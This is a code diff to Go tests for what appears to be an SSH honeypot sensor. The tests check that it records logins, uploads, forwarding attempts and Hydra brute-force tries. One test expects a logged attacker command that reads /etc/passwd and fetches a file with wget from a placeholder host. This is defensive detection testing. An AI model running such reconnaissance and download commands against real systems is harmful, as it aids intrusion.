@@ -77,8 +77,8 @@ func TestOpenSSHPasswordAndCommands(t *testing.T) {
 			t.Errorf("output lacks %q:\n%s", want, out)
 		}
 	}
-	p.events.wait(t, "the download event", func() bool { return len(p.events.all(sensor.KindRequest)) == 1 })
-	auth := p.events.all(sensor.KindAuth)
+	p.events.Wait(t, "the download event", func() bool { return len(p.events.All(sensor.KindRequest)) == 1 })
+	auth := p.events.All(sensor.KindAuth)
 	if len(auth) != 2 || auth[0].Credentials.Password != "wrong" || auth[0].Credentials.Accepted ||
 		auth[1].Credentials.Password != "toor" || !auth[1].Credentials.Accepted {
 		t.Fatalf("auth events: %+v", auth)
@@ -87,11 +87,11 @@ func TestOpenSSHPasswordAndCommands(t *testing.T) {
 	if !strings.HasPrefix(fp["client_version"], "SSH-2.0-OpenSSH_") || len(fp["hassh"]) != 32 || !strings.Contains(fp["hassh_algorithms"], "curve25519-sha256") {
 		t.Errorf("fingerprints: %+v", fp)
 	}
-	cmds := p.events.all(sensor.KindCommand)
+	cmds := p.events.All(sensor.KindCommand)
 	if len(cmds) != 1 || cmds[0].Command != "uname -a; id; cat /etc/passwd | grep root; wget http://example.invalid/x" || cmds[0].Details["exec"] != "true" {
 		t.Errorf("command events: %+v", cmds)
 	}
-	if dl := p.events.all(sensor.KindRequest)[0]; dl.Details["url"] != "http://example.invalid/x" {
+	if dl := p.events.All(sensor.KindRequest)[0]; dl.Details["url"] != "http://example.invalid/x" {
 		t.Errorf("download event: %+v", dl)
 	}
 }
@@ -114,8 +114,8 @@ func TestOpenSSHPublicKeyRecorded(t *testing.T) {
 	if out, err := run(t, "", "ssh", append(opts, "root@127.0.0.1", "id")...); err == nil {
 		t.Fatalf("the key got in: %s", out)
 	}
-	p.events.wait(t, "a public key attempt", func() bool { return len(p.events.all(sensor.KindAuth)) >= 1 })
-	a := p.events.all(sensor.KindAuth)[0].Credentials
+	p.events.Wait(t, "a public key attempt", func() bool { return len(p.events.All(sensor.KindAuth)) >= 1 })
+	a := p.events.All(sensor.KindAuth)[0].Credentials
 	if a.Method != "publickey" || a.KeyType != "ssh-ed25519" || a.KeyFingerprint != wantFP || a.Username != "root" || a.Accepted {
 		t.Errorf("got %+v, want an ssh-ed25519 key %s refused", a, wantFP)
 	}
@@ -148,8 +148,8 @@ func TestOpenSSHUploads(t *testing.T) {
 			if err != nil {
 				t.Fatalf("%s: %v\n%s", tt.prog, err, out)
 			}
-			p.events.wait(t, "the upload", func() bool { return len(p.events.all(sensor.KindUpload)) == i+1 })
-			up := p.events.all(sensor.KindUpload)[i]
+			p.events.Wait(t, "the upload", func() bool { return len(p.events.All(sensor.KindUpload)) == i+1 })
+			up := p.events.All(sensor.KindUpload)[i]
 			ref := up.Payloads[0]
 			if ref.SHA256 != want || ref.Size != int64(len(payload)) || ref.Truncated || up.Details["protocol"] != tt.protocol || up.Details["path"] != tt.path {
 				t.Errorf("upload event %+v %+v, want %s of %d bytes at %s by %s", up.Details, ref, want, len(payload), tt.path, tt.protocol)
@@ -180,8 +180,8 @@ func TestOpenSSHUploadCap(t *testing.T) {
 	if out, err := run(t, "", "sshpass", append(append([]string{"-p", "pw", "scp"}, sshOpts(t, p, "-P")...), "-O", src, "root@127.0.0.1:/tmp/")...); err != nil {
 		t.Fatalf("scp: %v\n%s", err, out)
 	}
-	p.events.wait(t, "the upload", func() bool { return len(p.events.all(sensor.KindUpload)) == 1 })
-	up := p.events.all(sensor.KindUpload)[0]
+	p.events.Wait(t, "the upload", func() bool { return len(p.events.All(sensor.KindUpload)) == 1 })
+	up := p.events.All(sensor.KindUpload)[0]
 	if ref := up.Payloads[0]; ref.Size != 1000 || !ref.Truncated || ref.SHA256 != sumHex(payload[:1000]) || up.Details["received"] != "5000" {
 		t.Errorf("capped upload: %+v %+v", ref, up.Details)
 	}
@@ -227,8 +227,8 @@ func TestOpenSSHForwardRefused(t *testing.T) {
 		t.Error("the forwarded connection carried data")
 	}
 	c.Close()
-	p.events.wait(t, "the forward event", func() bool { return len(p.events.all(sensor.KindForward)) == 1 })
-	fw := p.events.all(sensor.KindForward)[0]
+	p.events.Wait(t, "the forward event", func() bool { return len(p.events.All(sensor.KindForward)) == 1 })
+	fw := p.events.All(sensor.KindForward)[0]
 	if fw.Details["type"] != "direct-tcpip" || fw.Details["host"] != "192.0.2.7" || fw.Details["port"] != "3389" {
 		t.Errorf("forward event: %+v", fw.Details)
 	}
@@ -262,9 +262,9 @@ func TestHydraAttemptsRecorded(t *testing.T) {
 	if !strings.Contains(out, "0 valid password") {
 		t.Errorf("hydra found a password:\n%s", out)
 	}
-	p.events.wait(t, "every attempt", func() bool {
+	p.events.Wait(t, "every attempt", func() bool {
 		got := map[string]bool{}
-		for _, ev := range p.events.all(sensor.KindAuth) {
+		for _, ev := range p.events.All(sensor.KindAuth) {
 			if ev.Credentials.Method == "password" && ev.Credentials.Username == "root" {
 				got[ev.Credentials.Password] = true
 			}
@@ -276,7 +276,7 @@ func TestHydraAttemptsRecorded(t *testing.T) {
 		}
 		return true
 	})
-	for _, ev := range p.events.all(sensor.KindAuth) {
+	for _, ev := range p.events.All(sensor.KindAuth) {
 		if ev.Credentials.Accepted || !strings.Contains(ev.Fingerprints["client_version"], "libssh") {
 			t.Errorf("hydra attempt %+v %+v", ev.Credentials, ev.Fingerprints)
 		}
@@ -291,7 +291,7 @@ func TestOpenSSHKeyboardInteractive(t *testing.T) {
 	if err != nil || out != "admin\n" {
 		t.Fatalf("ssh: %v\n%s", err, out)
 	}
-	auth := p.events.all(sensor.KindAuth)
+	auth := p.events.All(sensor.KindAuth)
 	if len(auth) != 1 || auth[0].Credentials.Method != "keyboard-interactive" || auth[0].Credentials.Password != "kbd-secret" || !auth[0].Credentials.Accepted {
 		t.Errorf("auth events: %+v", auth)
 	}
